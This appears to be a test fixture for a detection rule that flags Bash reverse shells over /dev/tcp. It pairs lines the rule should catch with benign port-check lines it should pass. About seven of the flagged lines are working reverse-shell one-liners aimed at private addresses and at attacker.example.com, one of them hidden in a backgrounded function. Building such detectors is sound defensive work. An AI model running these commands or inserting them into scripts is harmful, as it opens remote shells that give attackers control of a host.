#!/bin/bash
HOST=10.10.14.3
PORT=4444

# ruleid: bash-reverse-shell-dev-tcp
bash -i >& /dev/tcp/$HOST/$PORT 0>&1

connect_back() {
  # ruleid: bash-reverse-shell-dev-tcp
  nohup bash -c "bash -i >& /dev/tcp/${1}/${2} 0>&1" >/dev/null 2>&1 &
}

# ruleid: bash-reverse-shell-dev-tcp
/bin/bash -l > /dev/tcp/10.0.0.1/4242 0<&1 2>&1

# ruleid: bash-reverse-shell-dev-tcp
sh -i > /dev/udp/10.0.0.1/53 0>&1 2>&1

# ruleid: bash-reverse-shell-dev-tcp
/bin/sh 0</dev/tcp/10.0.0.1/9001 1>&0 2>&0

# ruleid: bash-reverse-shell-dev-tcp
bash -c 'exec 5<>/dev/tcp/attacker.example.com/443; cat <&5 | while read line; do $line 2>&5 >&5; done' &

# ruleid: bash-reverse-shell-dev-tcp
bash -c '0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196'

wait_for_port() {
  local host=$1 port=$2
  for _ in $(seq 1 30); do
    # ok: bash-reverse-shell-dev-tcp
    if timeout 1 bash -c "</dev/tcp/${host}/${port}" 2>/dev/null; then
      return 0
    fi
    sleep 1
  done
  return 1
}

# ok: bash-reverse-shell-dev-tcp
bash -c "echo > /dev/tcp/localhost/5432" >/dev/null 2>&1 && echo "postgres is up"

# ok: bash-reverse-shell-dev-tcp
bash -c 'exec 3<>/dev/tcp/example.com/80; printf "GET / HTTP/1.0\r\n\r\n" >&3; cat <&3'

# ok: bash-reverse-shell-dev-tcp
bash -i ./interactive_setup.sh
